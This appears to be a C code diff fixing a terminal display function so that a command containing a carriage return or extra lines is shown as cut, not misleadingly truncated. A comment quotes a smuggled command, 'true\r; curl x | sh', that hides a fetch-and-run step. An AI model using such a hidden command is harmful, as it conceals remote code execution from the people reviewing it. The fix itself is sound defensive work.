@@ -100,13 +100,20 @@ void runfmt_print_cut(const void *text, size_t n, size_t width, bool pad)
 	const unsigned char *s = text;
 	char c[SAFETEXT_CHAR_MAX];
 	size_t end = 0, total = 0, cols = 0;
-	while (end < n && s[end] != '\n' && s[end] != '\r')
+	while (end < n && s[end] != '\n')
 		end++;
+	/* More than the first line (trailing newlines aside) is a cut too: a
+	 * command "true\r; curl x | sh" showed as "true" (a review's finding;
+	 * a CR is now escaped like any control) */
+	bool more = false;
+	for (size_t i = end; i < n && !more; i++)
+		more = s[i] != '\n';
 	for (size_t i = 0; i < end;) {
 		i += show_char(s + i, end - i, c);
 		total += columns(c);
 	}
-	size_t keep = total > width ? (width > 3 ? width - 3 : 0) : width;
+	bool cut = total > width || more;
+	size_t keep = cut ? (width > 3 ? width - 3 : 0) : width;
 	for (size_t i = 0; i < end;) {
 		i += show_char(s + i, end - i, c);
 		size_t w = columns(c);
@@ -115,7 +122,7 @@ void runfmt_print_cut(const void *text, size_t n, size_t width, bool pad)
 		fputs(c, stdout);
 		cols += w;
 	}
-	if (total > width) {
+	if (cut) {
 		fputs("...", stdout);
 		cols += 3;
 	}
